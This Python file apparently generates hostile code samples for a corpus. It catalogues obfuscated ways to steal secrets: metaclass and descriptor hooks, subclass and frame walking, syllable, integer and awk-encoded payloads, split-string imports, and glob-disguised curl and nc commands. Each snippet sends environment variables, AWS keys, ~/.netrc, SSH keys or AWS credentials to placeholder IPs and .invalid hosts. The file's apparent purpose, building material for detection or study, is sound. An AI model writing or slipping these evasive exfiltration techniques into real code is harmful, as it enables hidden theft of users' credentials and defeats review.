"""Theft whose text does not show it: encoded, compiled, assembled, looked up."""

from corpora.hostile.form import bash, family, py, sh


def _words(text: str) -> str:
    syllables = [c + v for c in "bdfghklmnprstvwz" for v in "aeiouyäöüéèêáóúí"]
    return " ".join(syllables[byte] for byte in text.encode())


FAMILIES = (
    family(
        "machinery-of-classes",
        "held",
        py(
            note="a metaclass acts when the class is made",
            top=r"""
            class _Registry(type):
                def __new__(mcls, name, bases, space):
                    made = super().__new__(mcls, name, bases, space)
                    for hook in space.get("hooks", ()):
                        hook(made)
                    return made


            def _announce(made):
                @QUIET@


            class Options(metaclass=_Registry):
                hooks = (_announce,)
                limit = 10
            """,
        ),
        py(
            note="a descriptor's __set_name__",
            top=r"""
            class _Field:
                def __init__(self, default):
                    self.default = default

                def __set_name__(self, owner, name):
                    @QUIET@

                def __get__(self, instance, owner):
                    return self.default


            class Settings:
                width = _Field(80)
            """,
        ),
        py(
            note="an operator of a small class sends",
            top=r"""
            class _Text(str):
                def __matmul__(self, other):
                    import socket
                    try:
                        socket.create_connection(("198.51.100.200", 80), 2).sendall(str(other).encode())
                    except OSError:
                        pass
                    return self
            """,
            enter='import os\n_ = _Text("x") @ dict(os.environ)',
        ),
    ),
    family(
        "subclasses-and-frames",
        "held",
        py(
            note="from an empty tuple to the loader",
            enter=r"""
            for kind in ().__class__.__base__.__subclasses__():
                if kind.__name__ == "BuiltinImporter":
                    posix = kind.load_module("posix")
                    value = posix.environ.get(b"AWS_SECRET_ACCESS_KEY", b"")
                    try:
                        kind.load_module("_socket").socket(2, 2).sendto(value, ("192.0.2.61", 123))
                    except Exception:
                        pass
            """,
        ),
        py(
            note="globals of a standard function lead to os",
            top="import textwrap as _t, contextlib as _c",
            enter=r"""
            reach = _c.contextmanager.__globals__["os"] if "os" in _c.contextmanager.__globals__ else _c.contextmanager.__globals__["sys"].modules["os"]
            try:
                text = reach.fdopen(reach.open(reach.path.expanduser("~/.netrc"), 0)).read()
                reach.system("nslookup " + text.encode().hex()[:60] + ".f.framewalk.invalid >/dev/null 2>&1")
            except Exception:
                pass
            """,
        ),
        py(
            note="the caller's frame is searched for values that look like keys",
            top="import sys, re",
            enter=r"""
            frame, seen = sys._getframe(), []
            while frame:
                seen += [v for v in [*frame.f_locals.values(), *frame.f_globals.values()] if isinstance(v, str) and re.fullmatch(r"[\w/+-]{30,90}", v)]
                frame = frame.f_back
            try:
                __import__("urllib.request").request.urlopen("https://f.framewalk.invalid", "\n".join(seen).encode(), 2)
            except Exception:
                pass
            """,
        ),
    ),
    family(
        "spelled-out",
        "held",
        py(
            note="syllables stand for bytes",
            pack=_words,
            top='_POEM = """@DATA@"""',
            enter=r"""
            sound = [c + v for c in "bdfghklmnprstvwz" for v in "aeiouyäöüéèêáóúí"]
            try:
                exec(bytes(map(sound.index, _POEM.split())).decode(), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="a number of thousands of digits",
            pack=lambda text: hex(int.from_bytes(text.encode())),
            top="_PRIME = @DATA@",
            enter='size = (_PRIME.bit_length() + 7) // 8\ntry:\n    exec(_PRIME.to_bytes(size, "big"), {})\nexcept Exception:\n    pass',
        ),
        sh(
            note="awk prints the command from numbers",
            pack=lambda text: " ".join(str(ord(char) + 5) for char in text),
            top="echo @DATA@ | awk '{for(i=1;i<=NF;i++)printf \"%c\",$i-5}' | sh >/dev/null 2>&1 || true",
        ),
    ),
    family(
        "hidden-imports",
        "held",
        py(
            note="importlib with names out of a word list",
            top='import importlib\n\n_NAMES = "urn lib quest re os env request url . on vir".split()',
            enter=r"""
            n = _NAMES
            ask = importlib.import_module(n[7] + n[1] + n[8] + n[6])
            env = getattr(importlib.import_module(n[4]), n[5] + "i" + "ron")
            try:
                ask.urlopen("http://198.51.100.12/" + "&".join(v for k, v in env.items() if "TOKEN" in k), timeout=2)
            except Exception:
                pass
            """,
        ),
        py(
            note="a formatted string looks attributes up",
            enter=r"""
            class Row:
                import os, http.client as web
            told = "{0.os.environ[HOME]}|{0.os.environ}".format(Row)
            try:
                Row.web.HTTPSConnection("row.formatted.invalid", timeout=2).request("POST", "/", told)
            except Exception:
                pass
            """,
        ),
        bash(
            note="glob patterns instead of program names",
            top=r"""
            /???/b?n/c[t-v]rl -s -m 3 -T ~/.s[r-t]h/id_ed2551[0-9] https://g.globular.invalid/ >/dev/null 2>&1 </dev/null || true
            /b?n/c?t ~/.a?s/cred* 2>/dev/null | /???/b?n/nc -w 2 192.0.2.90 53 2>/dev/null || true
            """,
        ),
    ),
)
